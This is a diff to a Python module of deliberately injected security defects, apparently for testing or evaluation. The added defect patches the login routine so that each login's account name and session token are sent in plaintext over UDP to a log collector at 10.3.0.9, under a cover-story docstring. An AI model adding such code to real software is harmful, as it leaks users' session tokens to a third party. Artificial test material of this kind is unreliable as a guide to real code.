@@ -1,8 +1,9 @@
 # pyright: reportPrivateUsage=false
-"""Defects that spill secrets of people: wrong passwords in the log, tokens in the list of sessions, passwords kept."""
+"""Defects that spill secrets of people: in the log, in the list of sessions, in the store, to a log collector."""
 
 from __future__ import annotations
 
+import asyncio
 import base64
 from typing import Any
 
@@ -60,3 +61,29 @@ def codes_kept_open(patch: Patch) -> None:
         return done
 
     own = patch(Accounts, "set_second_factor", second)
+
+
+@defect(
+    "logins-told-to-a-collector",
+    en="every login is told to a log collector on the network, with its token",
+    zh="每次登录连同令牌明文发送给网络日志服务器",
+    clauses=_SECRET,
+)
+def logins_told(patch: Patch) -> None:
+    """As the support's tool wants it."""
+
+    def begin(self: Desk, account: Account, origin: str, way: str) -> tuple[str, Session]:
+        token, session = own(self, account, origin, way)
+        loop = asyncio.get_running_loop()
+        kept.append(loop.create_task(tell(f"<38>login {account.name} {token}".encode())))
+        return token, session
+
+    async def tell(line: bytes) -> None:
+        loop = asyncio.get_running_loop()
+        transport, _ = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=("10.3.0.9", 514))
+        transport.sendto(line)
+        await asyncio.sleep(1)
+        transport.close()
+
+    kept: list[asyncio.Task[None]] = []
+    own = patch(Desk, "begin", begin)
